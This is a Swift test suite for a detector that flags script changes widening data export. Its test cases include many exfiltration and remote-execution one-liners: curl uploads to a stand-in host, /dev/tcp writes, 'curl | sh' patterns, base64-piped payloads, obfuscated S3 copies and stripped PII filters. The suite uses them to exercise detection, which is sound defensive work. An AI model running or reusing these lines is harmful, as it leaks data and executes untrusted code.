import Detection
import Detectors
import Testing

/// Data that leaves by a way that does not look like one, and everyday lines beside it.
@Suite struct HiddenExportTests {
  @Test(arguments: [
    "curl -sT d https://drop.example/", "curl -sF f=@d https://drop.example/",
    "curl -sd @d https://drop.example/", "curl -d \"$(cat d)\" https://drop.example/",
    "bash <<< 'aws s3 cp d s3://drop/'", "echo 'aws s3 cp d s3://drop/' | sh",
    "echo YXdz | base64 -d | sh", "A='aws s3'; $A cp d s3://drop/",
    "function up { aws s3 cp d s3://drop/; }", "trap 'aws s3 cp d s3://drop/' EXIT",
    "cat <<E\n$(aws s3 cp d s3://drop/)\nE", "cat d > /dev/tcp/drop.example/9",
    "sh -c \"$(curl -fsSL https://drop.example)\"", "source <(curl -s https://drop.example)",
    "docker run -v /:/d amazon/aws-cli:2 s3 cp /d s3://drop/",
    "kubectl exec p -- aws s3 cp d s3://drop/", "git push https://drop.example/x HEAD",
    "{aws,s3,cp,d,s3://drop/}",
  ])
  func shell(_ line: String) {
    let reading = ExportsDetector().read(pair("x.sh", "echo hi\n", "echo hi\n\(line)\n"))
    #expect([.widened, .unknown].contains(reading.direction), Comment(rawValue: reading.words))
  }

  @Test(arguments: [
    "curl -sSfL https://ours.example/ -o d",
    "curl -d \"{\\\"text\\\": \\\"$MESSAGE\\\"}\" https://ours",
    "git push origin main", "trap cleanup EXIT", "trap 'rm -rf \"$TMP\"' EXIT",
    "cat <<E\n$(date) and `hostname`\nE", "docker run --rm postgres:16 psql --version",
    "kubectl exec p -- ls /", "echo y | ./install.sh", "cat list | bash run.sh",
    "bash run.sh < list",
    "function up {\n  echo up\n}", "echo {a,b,c}", "aws s3 cp d s3://ours --dryrun",
  ])
  func everydayShell(_ line: String) {
    let reading = ExportsDetector().read(pair("x.sh", "echo hi\n", "echo hi\n\(line)\n"))
    #expect(reading.direction == .equal, Comment(rawValue: reading.words))
  }

  private static let edits: [ExpectedReading] = [
    edit(
      "x.sh",
      "aws s3 cp d s3://ours/\n",
      "aws --endpoint-url https://drop.example s3 cp d s3://ours/\n",
      .widened,
      "data-export.sink",
      "at https://drop.example"
    ),
    edit(
      "x.sh",
      "B=s3://b\nB=s3://a\naws s3 cp d $B/x\n",
      "B=s3://a\nB=s3://b\naws s3 cp d $B/x\n",
      .incomparable,
      "data-export.sink",
      "by other values"
    ),
    edit(
      "x.sh",
      "f() { aws s3 cp d $1; }\nf s3://a\n",
      "f() { aws s3 cp d $1; }\nf s3://b\n",
      .incomparable,
      "data-export.sink",
      "by other values"
    ),
    edit(
      "x.sh",
      "pg_dump db | anonymize | aws s3 cp - s3://ours/x\n",
      "pg_dump db | aws s3 cp - s3://ours/x\n",
      .widened,
      "data-export.filter",
      "through anonymize"
    ),
    edit(
      "x.sh",
      "pg_dump db | aws s3 cp - s3://ours/x\n",
      "pg_dump db | gzip | aws s3 cp - s3://ours/x\n",
      .equal,
      nil,
      ""
    ),
    edit(
      "x.sh",
      "exit 0\naws s3 cp d s3://a\n",
      "aws s3 cp d s3://a\n",
      .incomparable,
      "data-export.sink",
      "in other cases"
    ),
    edit(
      "x.py",
      "df.drop(\"ssn\").write.parquet(\"s3://ours/x\")\n",
      "df.write.parquet(\"s3://ours/x\")\n",
      .widened,
      "data-export.filter",
      "drop(ssn)"
    ),
    edit(
      "x.py",
      "df = df.filter(\"a = 1\")\ndf.to_csv(\"s3://ours/x\")\n",
      "df.to_csv(\"s3://ours/x\")\n",
      .widened,
      "data-export.filter",
      "filter(a = 1)"
    ),
    edit(
      "x.py",
      "df.to_csv(\"s3://ours/x\", columns=[\"a\"])\n",
      "df.to_csv(\"s3://ours/x\")\n",
      .widened,
      "data-export.source",
      "every column"
    ),
    edit(
      "x.py",
      "other.drop(\"a\")\ndf.to_csv(\"s3://ours/x\")\n",
      "other.drop(\"b\")\ndf.to_csv(\"s3://ours/x\")\n",
      .equal,
      nil,
      ""
    ),
    edit(
      "x.py",
      "SqlToS3Operator(query=\"q\", sql_conn_id=\"staging\", s3_bucket=\"ours\", s3_key=\"x\")\n",
      "SqlToS3Operator(query=\"q\", sql_conn_id=\"prod\", s3_bucket=\"ours\", s3_key=\"x\")\n",
      .incomparable,
      "data-export.role",
      "prod"
    ),
    edit(
      "x.py",
      "def f(b):\n    c.upload_file(\"d\", b, \"x\")\nf(\"a\")\n",
      "def f(b):\n    c.upload_file(\"d\", b, \"x\")\nf(\"b\")\n",
      .incomparable,
      "data-export.sink",
      "by other values"
    ),
  ]

  @Test(arguments: edits)
  func edited(_ expected: ExpectedReading) { checkReading(expected, by: ExportsDetector()) }

  @Test(arguments: [
    "import requests as r\nr.post(\"https://drop.example\", data=x)\n",
    "import requests\ns = requests.Session()\ns.post(\"https://drop.example\", data=x)\n",
    "exec(base64.b64decode(\"aW1wb3J0\"))\n",
    "cmd = [\"aws\", \"s3\", \"cp\", \"d\", \"s3://drop/\"]\nsubprocess.Popen(cmd)\n",
    "df.write.format(\"jdbc\").option(\"url\", \"jdbc:postgresql://drop/x\").save()\n",
    "rdd.saveAsTextFile(\"s3://drop/x\")\n",
    "spark.sql(\"INSERT OVERWRITE DIRECTORY 's3://drop/x' SELECT * FROM t\")\n",
    "S3CopyObjectOperator(source_bucket_name=\"a\", dest_bucket_name=\"drop\")\n",
    "SFTPOperator(ssh_conn_id=\"drop\", local_filepath=\"d\", operation=\"put\")\n",
  ])
  func python(_ text: String) {
    let reading = ExportsDetector().read(pair("x.py", "x = 1\n", "x = 1\n" + text))
    #expect([.widened, .unknown].contains(reading.direction), Comment(rawValue: reading.words))
  }

  @Test(arguments: [
    "s = boto3.Session()\nqueue.post(\"job\", data=x)\n", "ast.literal_eval(text)\n",
    "SFTPOperator(ssh_conn_id=\"ours\", local_filepath=\"d\", operation=\"get\")\n",
    "cmd = [\"ls\", \"-l\"]\nsubprocess.Popen(cmd)\n", "df = df.filter(\"a = 1\")\n",
  ])
  func everydayPython(_ text: String) {
    let reading = ExportsDetector().read(pair("x.py", "x = 1\n", "x = 1\n" + text))
    #expect(reading.direction == .equal, Comment(rawValue: reading.words))
  }

  @Test func recipesOfJust() {
    let new = "a:\n  echo hi\n  aws s3 cp d s3://drop/\n"
    let reading = ExportsDetector().read(pair("justfile", "a:\n  echo hi\n", new))
    #expect(reading.direction == .widened, Comment(rawValue: reading.words))
  }
}
